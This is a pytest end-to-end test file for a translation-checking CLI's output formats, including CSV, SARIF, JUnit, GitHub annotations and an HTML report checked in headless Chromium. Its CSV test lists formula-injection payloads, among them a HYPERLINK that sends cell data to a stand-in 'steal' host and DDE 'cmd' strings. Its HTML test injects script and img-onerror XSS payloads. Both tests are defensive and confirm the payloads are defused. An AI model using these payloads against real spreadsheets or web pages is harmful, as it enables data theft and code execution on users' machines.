"""Every output format, end to end through the CLI: golden files on the samples, the SARIF schema,
JUnit parsing, GitHub annotation lines, CSV formula injection, the HTML page in headless Chromium,
baselines and exit codes.

Golden files live in tests/golden/. After a change to the rules or the formatters, regenerate them
(and docs/report.png) with

    TQCHECK_UPDATE_GOLDEN=1 python -m pytest -q tests/e2e/test_formats.py

and review the diff before committing it.
"""
from __future__ import annotations

import base64
import csv
import difflib
import fcntl
import io
import json
import os
import queue
import re
import shutil
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import tqcheck
from tqcheck._version import __version__
from tqcheck.cli import main
from tqcheck.report import FORMAT_NAMES

ROOT = Path(__file__).resolve().parents[2]
GOLDEN = ROOT / "tests" / "golden"
DATA = ROOT / "tests" / "data"
SAMPLES = [("kuril", "zh"), ("riverport", "ru"), ("railway", "ja")]
UPDATE = os.environ.get("TQCHECK_UPDATE_GOLDEN") == "1"
REGENERATE = "TQCHECK_UPDATE_GOLDEN=1 python -m pytest -q tests/e2e/test_formats.py"
CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else None)

ZH = "日本政府宣布对俄罗斯实施新一轮制裁。普京表示，日本仍在使用俄罗斯的电力。\n"
EN_OK = "The Japanese government announced a new round of sanctions on Russia. Putin said Japan was still using Russian electricity.\n"
EN_GAP = "Japan** announced a new round of sanctions on Russia. Putin said Japan was still using Russian electricity.\n"


def invoke(*args: Any, env: dict[str, str] | None = None):
    return CliRunner().invoke(main, [str(a) for a in args], env={"COLUMNS": "100", **(env or {})})


def sample_args(name: str, lang: str) -> list[str]:
    """The samples, deterministic: fixed languages, no model, no config file."""
    return ["compare", f"samples/{name}.{lang}.txt", f"samples/{name}.en.txt", "--src-lang", lang, "--tgt-lang", "en",
            "--embedder", "none", "--isolated"]


@pytest.fixture
def in_root(monkeypatch):
    monkeypatch.chdir(ROOT)  # relative sample paths in every report, as a user at the checkout would get


@pytest.fixture
def pair(tmp_path):
    def make(src: str, out: str, names=("src.txt", "out.txt")) -> tuple[Path, Path]:
        paths = []
        for name, content in zip(names, (src, out)):
            p = tmp_path / name
            p.write_text(content, encoding="utf-8")
            paths.append(p)
        return paths[0], paths[1]
    return make


def render(tmp_path: Path, args: list[str], fmt: str, *extra: str) -> tuple[Path, int]:
    target = tmp_path / f"report.{fmt}"
    result = invoke(*args, "-f", fmt, "-o", target, *extra)
    assert result.exit_code in (0, 1), result.output
    return target, result.exit_code


# --- golden files ---------------------------------------------------------------------------------

def normalise(text: str) -> str:
    """Drop what varies between machines and releases: the version and the checkout's absolute path."""
    text = text.replace(str(ROOT) + os.sep, "")
    return re.sub(rf"(?<![\d.]){re.escape(__version__)}(?![\d.])", "<VERSION>", text)


def golden_text(path: Path, fmt: str) -> str:
    if fmt == "parquet":
        import pandas as pd

        frame = pd.read_parquet(path)
        table = {"dtypes": {c: str(t) for c, t in frame.dtypes.items()},
                 "rows": json.loads(frame.to_json(orient="records", force_ascii=False))}
        return json.dumps(table, ensure_ascii=False, indent=1) + "\n"
    return path.read_text(encoding="utf-8")


def check_golden(name: str, actual: str) -> None:
    golden = GOLDEN / name
    actual = normalise(actual)
    if UPDATE:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(actual, encoding="utf-8", newline="\n")
        return
    assert golden.exists(), f"no golden file {golden}; create it with: {REGENERATE}"
    expected = golden.read_text(encoding="utf-8")
    if actual != expected:
        diff = "".join(list(difflib.unified_diff(expected.splitlines(True), actual.splitlines(True),
                                                 f"golden/{name}", "actual"))[:80])
        pytest.fail(f"{name} differs from its golden file (if the change is intended: {REGENERATE}):\n{diff}")


@pytest.mark.parametrize("fmt", FORMAT_NAMES)
@pytest.mark.parametrize("name,lang", SAMPLES)
def test_golden(in_root, tmp_path, name, lang, fmt):
    extra = ["--statistics"] if fmt == "text" else []
    path, code = render(tmp_path, sample_args(name, lang), fmt, *extra)
    assert code == 1  # every sample has errors
    suffix = "parquet.json" if fmt == "parquet" else fmt
    check_golden(f"{name}.{suffix}", golden_text(path, fmt))


def test_every_format_is_in_the_cli_choice():
    from tqcheck.report.output import FORMATTERS

    help_text = invoke("compare", "--help").output
    assert tuple(FORMATTERS) == FORMAT_NAMES
    assert "|".join(FORMAT_NAMES) in re.sub(r"\s+", "", help_text)


def test_output_format_from_environment(in_root, tmp_path):
    target = tmp_path / "r.out"
    result = invoke(*sample_args("kuril", "zh"), "-o", target, env={"TQCHECK_OUTPUT_FORMAT": "sarif"})
    assert result.exit_code == 1
    assert json.loads(target.read_text(encoding="utf-8"))["version"] == "2.1.0"


# --- SARIF ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,lang", SAMPLES)
def test_sarif_validates_against_the_sarif_2_1_0_schema(in_root, tmp_path, name, lang):
    import jsonschema

    schema = json.loads((DATA / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
    path, _ = render(tmp_path, sample_args(name, lang), "sarif")
    log = json.loads(path.read_text(encoding="utf-8"))
    errors = sorted(jsonschema.Draft4Validator(schema).iter_errors(log), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in errors[:10])
    data = json.loads(render(tmp_path, sample_args(name, lang), "json")[0].read_text(encoding="utf-8"))
    run = log["runs"][0]
    findings = [f for p in data["pairs"] for f in p["findings"]]
    assert len(run["results"]) == len(findings) > 0
    rules = run["tool"]["driver"]["rules"]
    for result, finding in zip(run["results"], findings):
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"] == finding["code"]
        region = result["locations"][0]["physicalLocation"]["region"]
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert uri == finding["location"]["path"]
        assert (region["startLine"], region["startColumn"]) == (finding["location"]["line"], finding["location"]["column"])


# --- JUnit ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,lang", SAMPLES)
def test_junit_parses_one_case_per_pair(in_root, tmp_path, name, lang):
    from junitparser import Failure, JUnitXml

    path, _ = render(tmp_path, sample_args(name, lang), "junit")
    data = json.loads(render(tmp_path, sample_args(name, lang), "json")[0].read_text(encoding="utf-8"))
    xml = JUnitXml.fromfile(str(path))
    suites = list(xml)
    assert len(suites) == 1
    cases = list(suites[0])
    assert len(cases) == suites[0].tests == len(data["pairs"])
    failed = [c for c in cases if any(isinstance(r, Failure) for r in c.result)]
    with_errors = [p for p in data["pairs"] if any(f["severity"] == "error" for f in p["findings"])]
    assert len(failed) == suites[0].failures == len(with_errors) > 0
    for case, p in zip(cases, data["pairs"]):
        assert case.name.startswith(f"pair {p['index'] + 1} ")
        failure = next((r for r in case.result if isinstance(r, Failure)), None)
        if failure is not None:
            assert all(f["code"] in failure.text for f in p["findings"] if f["severity"] == "error")


def test_junit_fail_on_warning_counts_warnings(pair, tmp_path):
    src, out = pair(ZH, EN_GAP)
    config = tmp_path / "tqcheck.toml"
    config.write_text('[severity]\nTQ101 = "warning"\n', encoding="utf-8")
    from junitparser import JUnitXml

    for fail_on, failures in (("error", 0), ("warning", 1)):
        target = tmp_path / f"{fail_on}.xml"
        invoke("compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--select", "TQ101",
               "--config", config, "--fail-on", fail_on, "-f", "junit", "-o", target)
        suite = next(iter(JUnitXml.fromfile(str(target))))
        assert suite.failures == failures


# --- GitHub annotations -----------------------------------------------------------------------------

ANNOTATION = re.compile(
    r"^::(?P<level>error|warning|notice) file=(?P<file>[^,:]+),line=(?P<line>\d+)"
    r"(?:,col=(?P<col>\d+),endLine=(?P<end_line>\d+),endColumn=(?P<end_col>\d+))?"
    r",title=(?P<title>[^:]+)::(?P<message>.+)$"
)


def unescape(text: str) -> str:
    return text.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",").replace("%25", "%")


@pytest.mark.parametrize("name,lang", SAMPLES)
def test_github_annotations_point_to_the_right_lines(in_root, tmp_path, name, lang):
    path, _ = render(tmp_path, sample_args(name, lang), "github")
    data = json.loads(render(tmp_path, sample_args(name, lang), "json")[0].read_text(encoding="utf-8"))
    translation = (ROOT / "samples" / f"{name}.en.txt").read_text(encoding="utf-8").split("\n")
    lines = path.read_text(encoding="utf-8").splitlines()
    findings = [(p, f) for p in data["pairs"] for f in p["findings"]]
    assert len(lines) == len(findings) > 0
    for text, (p, f) in zip(lines, findings):
        m = ANNOTATION.match(text)
        assert m, f"not a workflow command: {text}"
        assert m["level"] == {"error": "error", "warning": "warning", "info": "notice"}[f["severity"]]
        assert m["file"] == f"samples/{name}.en.txt"
        assert unescape(m["title"]).startswith(f["code"] + " ")
        line = int(m["line"])
        if f["side"] == "target":
            # the flagged text is exactly there in the translation file
            assert translation[line - 1][int(m["col"]) - 1:int(m["end_col"]) - 1] == f["location"]["text"]
        elif p["target"]["sentences"]:
            # a source-side finding (a name the translation lacks): on the pair's translation
            assert line == p["target"]["sentences"][0]["line"]
        else:
            # an omitted source sentence: annotated just after the previous translated sentence
            before = next(q for q in reversed(data["pairs"][:p["index"]]) if q["target"]["sentences"])
            assert line == before["target"]["sentences"][-1]["line"]
            assert f"samples/{name}.{lang}.txt:{f['location']['line']}" in unescape(m["message"])


def test_github_escapes_newlines_and_percent(pair, tmp_path):
    src, out = pair(ZH, "Japan** announced a 100% new round, of: sanctions on Russia. Putin said Japan was still using Russian electricity.\n",
                    names=("src,a.txt", "out:b.txt"))
    result = invoke("compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "-f", "github")
    assert result.exit_code == 1
    line = result.output.splitlines()[0]
    assert "src%2Ca" not in line and "out%3Ab.txt" in line
    assert ANNOTATION.match(line)


# --- CSV, parquet, JSON Lines, pandas ---------------------------------------------------------------

NASTY = [
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_csv_cells_cannot_run_as_formulas(pair, tmp_path):
    src_lines = ["日本政府宣布对俄罗斯实施新一轮制裁。", "=普京表示，日本仍在使用俄罗斯的电力。", "此外，日本还禁止向63个俄罗斯机构提供出口服务。",
                 "从2024年1月起，日本将禁止进口俄罗斯生产的非工业用钻石。", "岸田文雄政府还将继续冻结俄方部分个人和团体的资产。"]
    src, out = pair("\n".join(src_lines) + "\n", "\n".join(NASTY) + "\n")
    target = tmp_path / "r.csv"
    result = invoke("compare", src, out, "--aligned", "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none",
                    "-f", "csv", "-o", target, "--exit-zero")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert len(rows) == len(NASTY)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert [r["target_text"] for r in rows] == ["'" + t.strip() for t in NASTY]
    assert rows[1]["source_text"] == "'" + src_lines[1]
    # the DataFrame keeps the text as it is: only the spreadsheet-bound CSV is defused
    frame = tqcheck.compare("\n".join(src_lines), "\n".join(NASTY), "zh", "en", mode="aligned", embedder="none").to_pandas()
    assert frame["target_text"].tolist() == [t.strip() for t in NASTY]


def test_to_pandas_and_parquet_agree(in_root, tmp_path):
    import pandas as pd

    path, _ = render(tmp_path, sample_args("kuril", "zh"), "parquet")
    from_file = pd.read_parquet(path)
    report = tqcheck.compare((ROOT / "samples/kuril.zh.txt").read_text(encoding="utf-8"),
                             (ROOT / "samples/kuril.en.txt").read_text(encoding="utf-8"), "zh", "en", embedder="none")
    frame = report.to_pandas()
    assert list(frame.columns) == list(from_file.columns)
    assert len(frame) == len(report.pairs) == len(from_file)
    assert frame["findings"].sum() == len(report.findings) == from_file["findings"].sum()
    assert frame.attrs["signature"]["embedder"] == "none"
    assert frame["target_text"].tolist() == from_file["target_text"].tolist()
    assert str(frame["source_line"].dtype) == "Int64"


def test_jsonl_is_one_schema_valid_pair_per_line(in_root, tmp_path):
    import jsonschema

    schema = json.loads((ROOT / "tqcheck/report/schema/report-1.json").read_text(encoding="utf-8"))
    item = {**schema["properties"]["pairs"]["items"], "$defs": schema["$defs"]}
    path, _ = render(tmp_path, sample_args("riverport", "ru"), "jsonl")
    data = json.loads(render(tmp_path, sample_args("riverport", "ru"), "json")[0].read_text(encoding="utf-8"))
    lines = path.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == data["pairs"]
    for line in lines:
        jsonschema.Draft202012Validator(item).validate(json.loads(line))


def test_parquet_can_be_piped(in_root):
    result = invoke(*sample_args("kuril", "zh"), "-f", "parquet")  # to a pipe; a terminal is refused
    assert result.exit_code == 1
    assert result.stdout_bytes.startswith(b"PAR1")


def test_text_statistics(pair):
    src, out = pair(ZH, EN_GAP)
    result = invoke("compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--statistics")
    assert result.exit_code == 1
    tail = result.output[result.output.index("statistics:"):]
    assert re.search(r"^\s+1\s+TQ101 error\s+mt-gap", tail, re.M), tail


# --- exit codes -------------------------------------------------------------------------------------

@pytest.mark.parametrize("exit_zero", [False, True])
@pytest.mark.parametrize("fail_on", ["info", "warning", "error"])
@pytest.mark.parametrize("worst", [None, "info", "warning", "error"])
def test_exit_codes_for_each_fail_on_level(pair, tmp_path, worst, fail_on, exit_zero):
    src, out = pair(ZH, EN_GAP if worst else EN_OK)
    config = tmp_path / "tqcheck.toml"
    config.write_text(f'[severity]\nTQ101 = "{worst or "error"}"\n', encoding="utf-8")
    args = ["compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--select", "TQ101",
            "--config", config, "--fail-on", fail_on] + (["--exit-zero"] if exit_zero else [])
    order = ["info", "warning", "error"]
    expected = 1 if worst and not exit_zero and order.index(worst) >= order.index(fail_on) else 0
    result = invoke(*args)
    assert result.exit_code == expected, result.output


@pytest.mark.parametrize("exit_zero", [False, True])
@pytest.mark.parametrize("fail_on", ["info", "warning", "error"])
@pytest.mark.parametrize("problem", ["missing-source", "bad-baseline", "bad-format"])
def test_exit_2_is_never_hidden(pair, tmp_path, problem, fail_on, exit_zero):
    src, out = pair(ZH, EN_GAP)
    args = ["compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--fail-on", fail_on]
    if problem == "missing-source":
        args[1] = tmp_path / "nope.txt"
    elif problem == "bad-baseline":
        (tmp_path / "baseline.json").write_text("{not json", encoding="utf-8")
        args += ["--baseline", tmp_path / "baseline.json"]
    else:
        args += ["-f", "xlsx"]
    report = tmp_path / "report.out"
    result = invoke(*args, "-o", report, *(["--exit-zero"] if exit_zero else []))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert not report.exists()


# --- baseline ---------------------------------------------------------------------------------------

def test_baseline_reports_only_new_findings_and_survives_unrelated_edits(pair, tmp_path):
    src, out = pair(ZH, EN_GAP)
    base = tmp_path / "baseline.json"
    common = ["--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--select", "TQ101"]
    written = invoke("compare", src, out, *common, "--write-baseline", base)
    assert written.exit_code == 0 and "TQ101" in written.output  # the report still shows them
    recorded = json.loads(base.read_text(encoding="utf-8"))
    assert [e["code"] for e in recorded["findings"]] == ["TQ101"]
    assert invoke("compare", src, out, *common, "--baseline", base).exit_code == 0
    # unrelated edits: new sentences before it move every line; the known gap stays known
    src.write_text("12月15日，日本突然发表了一则惊人声明。\n\n" + ZH, encoding="utf-8")
    out.write_text("Japan suddenly issued a startling statement on December 15.\n\n" + EN_GAP, encoding="utf-8")
    r = invoke("compare", src, out, *common, "--baseline", base, "-f", "json")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)["summary"]["findings"] == 0
    # a new defect is reported, alone, and fails
    out.write_text("Japan suddenly issued a startling statement on December## 15.\n\n" + EN_GAP, encoding="utf-8")
    r = invoke("compare", src, out, *common, "--baseline", base, "-f", "json")
    assert r.exit_code == 1
    data = json.loads(r.stdout)
    found = [f["location"]["text"] for p in data["pairs"] for f in p["findings"]]
    assert found == ["##"]
    assert data["signature"]["baseline"] == str(base)
    assert any("1 known finding(s) not reported" in n for n in data["notes"])


def test_baseline_counts_repeated_findings(pair, tmp_path):
    src, out = pair(ZH, EN_GAP)
    base = tmp_path / "baseline.json"
    common = ["--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "--select", "TQ101"]
    invoke("compare", src, out, *common, "--write-baseline", base)
    out.write_text("Japan** announced a new round of sanctions on Russia. Japan** announced a new round of sanctions on Russia. "
                   "Putin said Japan was still using Russian electricity.\n", encoding="utf-8")
    r = invoke("compare", src, out, *common, "--baseline", base, "-f", "json")
    assert r.exit_code == 1
    assert json.loads(r.stdout)["summary"]["findings"] == 1


# --- Python API -------------------------------------------------------------------------------------

def test_python_api_report():
    report = tqcheck.compare(ZH, EN_GAP, "zh", "en", embedder="none")
    assert isinstance(report, tqcheck.Report)
    assert [f.code for f in report.findings if f.code == "TQ101"] == ["TQ101"]
    assert report.pairs and all("confidence" in p.scores for p in report.pairs)
    assert report.signature["tool"] == "tqcheck" and report.signature["embedder"] == "none"


# --- HTML in headless Chromium ----------------------------------------------------------------------

CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-extensions",
                  "--hide-scrollbars", "--mute-audio"]


class Browser:
    """A tiny DevTools-protocol client over --remote-debugging-pipe (fd 3 in, fd 4 out): no port,
    no extra package. Records console errors, uncaught exceptions and error log entries."""

    def __init__(self, exe: str, profile: Path) -> None:
        cmd_r, cmd_w = os.pipe()
        out_r, out_w = os.pipe()
        # keep the child's ends clear of 3 and 4 so that dup2 below never maps an fd onto itself
        cmd_r2, out_w2 = (fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 10) for fd in (cmd_r, out_w))
        os.close(cmd_r)
        os.close(out_w)

        def child_fds() -> None:
            os.dup2(cmd_r2, 3)
            os.dup2(out_w2, 4)

        self.stderr = open(profile / "chromium.log", "wb")
        self.proc = subprocess.Popen(
            [exe, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--remote-debugging-pipe", "about:blank"],
            stdin=subprocess.DEVNULL, stdout=self.stderr, stderr=self.stderr, close_fds=False, preexec_fn=child_fds)
        os.close(cmd_r2)
        os.close(out_w2)
        self.cmd = os.fdopen(cmd_w, "wb", buffering=0)
        self.out = os.fdopen(out_r, "rb", buffering=0)
        self.next_id = 0
        self.replies: dict[int, queue.Queue] = {}
        self.events: list[dict[str, Any]] = []
        self.lock = threading.Lock()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buf = b""
        while True:
            chunk = self.out.read(65536)
            if not chunk:
                return
            buf += chunk
            while b"\0" in buf:
                raw, buf = buf.split(b"\0", 1)
                msg = json.loads(raw)
                if "id" in msg:
                    with self.lock:
                        q = self.replies.get(msg["id"])
                    if q is not None:
                        q.put(msg)
                else:
                    with self.lock:
                        self.events.append(msg)

    def send(self, method: str, params: dict[str, Any] | None = None, session: str | None = None,
             timeout: float = 60) -> dict[str, Any]:
        with self.lock:
            self.next_id += 1
            mid = self.next_id
            self.replies[mid] = queue.Queue()
        msg: dict[str, Any] = {"id": mid, "method": method, "params": params or {}}
        if session:
            msg["sessionId"] = session
        self.cmd.write(json.dumps(msg).encode() + b"\0")
        try:
            reply = self.replies[mid].get(timeout=timeout)
        except queue.Empty:
            raise AssertionError(f"chromium did not answer {method} within {timeout}s") from None
        if "error" in reply:
            raise AssertionError(f"{method}: {reply['error']}")
        return reply.get("result", {})

    def wait_event(self, method: str, session: str, timeout: float = 60) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                for e in self.events:
                    if e.get("method") == method and e.get("sessionId") == session:
                        return e
            time.sleep(0.05)
        raise AssertionError(f"no {method} within {timeout}s")

    def open(self, url: str, width: int = 1280, height: int = 1000) -> "Page":
        target = self.send("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = self.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        for domain in ("Runtime", "Log", "Page"):
            self.send(f"{domain}.enable", session=session)
        self.send("Emulation.setDeviceMetricsOverride",
                  {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}, session)
        self.send("Page.navigate", {"url": url}, session)
        self.wait_event("Page.loadEventFired", session)
        return Page(self, session)

    def close(self) -> None:
        try:
            self.send("Browser.close", timeout=10)
        except Exception:  # noqa: BLE001 - it may be gone already
            pass
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.cmd.close()
        self.stderr.close()


class Page:
    def __init__(self, browser: Browser, session: str) -> None:
        self.browser, self.session = browser, session

    def js(self, expression: str) -> Any:
        result = self.browser.send("Runtime.evaluate", {"expression": expression, "returnByValue": True}, self.session)
        if "exceptionDetails" in result:
            raise AssertionError(f"{expression}: {result['exceptionDetails']}")
        return result["result"].get("value")

    def problems(self) -> list[str]:
        """Console errors and warnings, uncaught exceptions, and error/warning log entries (CSP
        violations, failed loads) this page produced."""
        out = []
        with self.browser.lock:
            events = [e for e in self.browser.events if e.get("sessionId") == self.session]
        for e in events:
            p = e.get("params", {})
            if e["method"] == "Runtime.consoleAPICalled" and p.get("type") in ("error", "assert", "warning"):
                out.append(f"console.{p['type']}: {[a.get('value', a.get('description')) for a in p.get('args', [])]}")
            elif e["method"] == "Runtime.exceptionThrown":
                out.append(f"exception: {p['exceptionDetails'].get('text')} {p['exceptionDetails'].get('exception', {})}")
            elif e["method"] == "Log.entryAdded" and p["entry"]["level"] in ("error", "warning"):
                out.append(f"log {p['entry']['level']}: {p['entry'].get('text')}")
        return out

    def screenshot(self) -> bytes:
        return base64.b64decode(self.browser.send("Page.captureScreenshot", {"format": "png"}, self.session)["data"])


@pytest.fixture
def browser(tmp_path):
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed; .ci/run installs Debian's chromium package")
        pytest.skip("chromium is not installed (apt-get install chromium); .ci/run installs it")
    profile = tmp_path / "chromium-profile"
    profile.mkdir()
    b = Browser(CHROMIUM, profile)
    try:
        yield b
    finally:
        b.close()


def visible_findings(page: Page) -> list[str]:
    return page.js("Array.from(document.querySelectorAll('li.finding'))"
                   ".filter(e => e.getClientRects().length > 0).map(e => e.textContent)")


def test_html_report_of_kuril_in_chromium(in_root, tmp_path, browser):
    # With the default embedder, so that the similarity chart has its dots; the pipeline runs once for
    # both renderings (the golden tests cover the CLI's path to the same formatter).
    from tqcheck.pipeline import Options, compare_files
    from tqcheck.report.json_report import to_dict
    from tqcheck.report.output import render as render_report, write_atomic

    report = compare_files("samples/kuril.zh.txt", "samples/kuril.en.txt", Options("zh", "en"))
    html_path = tmp_path / "kuril.html"
    write_atomic(str(html_path), render_report(report, "html"))
    data = to_dict(report)
    findings = [f for p in data["pairs"] for f in p["findings"]]
    assert findings
    page = browser.open(html_path.as_uri())
    assert page.js("document.title").startswith("tqcheck: samples/kuril.zh.txt")
    # the page rendered: every pair, both charts, and every finding visible with its message
    assert page.js("document.querySelectorAll('section.pair').length") == len(data["pairs"])
    assert page.js("document.querySelectorAll('.summary svg').length") == 2
    assert page.js("document.body.getBoundingClientRect().height") > 1000
    shown = visible_findings(page)
    assert len(shown) == len(findings)
    for text, f in zip(shown, findings):
        assert f["code"] in text and f["message"] in text
    marks = page.js("Array.from(document.querySelectorAll('mark')).map(m => [m.textContent, m.getClientRects().length])")
    assert all(n > 0 for _, n in marks)
    for f in findings:
        if f["side"] == "target":
            assert any(f["location"]["text"] in text for text, _ in marks)
    assert page.js("document.getElementById('shown').textContent") == f"{len(findings)} of {len(findings)} findings shown"
    # the filters work (so the script ran): hide one code, then pairs without findings
    code = findings[0]["code"]
    page.js(f"document.querySelector('input[data-code=\"{code}\"]').click()")
    assert len(visible_findings(page)) == len(findings) - sum(f["code"] == code for f in findings)
    page.js(f"document.querySelector('input[data-code=\"{code}\"]').click()")
    page.js("document.getElementById('show-clean').click()")
    visible_pairs = page.js("Array.from(document.querySelectorAll('section.pair'))"
                            ".filter(e => e.getClientRects().length > 0).length")
    assert visible_pairs == sum(1 for p in data["pairs"] if p["findings"])
    assert len(visible_findings(page)) == len(findings)
    png = page.screenshot()
    assert png.startswith(b"\x89PNG") and len(png) > 10_000
    if UPDATE:
        page.js("window.scrollTo(0, 0)")
        (ROOT / "docs").mkdir(exist_ok=True)
        (ROOT / "docs" / "report.png").write_bytes(page.screenshot())
    assert page.problems() == []
    # self-contained: nothing but the file itself was requested
    requests = page.js("performance.getEntriesByType('resource').map(e => e.name)")
    assert requests == []


def test_html_shows_markup_in_the_translation_as_text(pair, tmp_path, browser):
    script = "<script>window.__pwned = 'script'</script>"
    img = "<img src=x onerror=\"window.__pwned = 'img'\">"
    src, out = pair(ZH, f"Japan** announced {script} a new round of sanctions on Russia. "
                        f"Putin said {img} Japan was still using Russian electricity.\n",
                    names=("<b>src.txt", "out\"'<i>.txt"))
    target = tmp_path / "r.html"
    result = invoke("compare", src, out, "--src-lang", "zh", "--tgt-lang", "en", "--embedder", "none", "-f", "html",
                    "-o", target)
    assert result.exit_code == 1, result.output
    html = target.read_text(encoding="utf-8")
    assert script not in html and img not in html and "<b>src" not in html
    page = browser.open(target.as_uri())
    assert page.js("typeof window.__pwned") == "undefined"
    assert page.js("document.images.length") == 0
    assert page.js("document.scripts.length") == 1  # the report's own
    assert page.js("document.querySelectorAll('b, i').length") == 0
    body = page.js("document.body.innerText")
    assert script in body and img in body and "<b>src.txt" in body
    assert len(visible_findings(page)) >= 1
    assert page.problems() == []


def test_every_formatter_handles_findings_without_or_with_empty_spans():
    """Rules may report a pair-level finding (no span) or an insertion point (empty span)."""
    from dataclasses import replace

    from tqcheck.report.output import FORMATTERS, render as render_report
    from tqcheck.types import Span

    report = tqcheck.compare(ZH, EN_GAP, "zh", "en", embedder="none", select=("TQ101",))
    pr = next(p for p in report.pairs if p.findings)
    f = pr.findings[0]
    pr.findings[:] = [f, replace(f, span=None, message="pair-level <b>"), replace(f, span=Span("target", 3, 3))]
    for fmt in FORMATTERS:
        out = render_report(report, fmt)
        assert out, fmt
        if fmt in ("text", "json", "jsonl", "csv", "html", "sarif", "github", "junit"):
            text = out if isinstance(out, str) else out.decode("utf-8")
            assert "pair-level" in text and "pair-level <b>" not in (text if fmt == "html" else ""), fmt
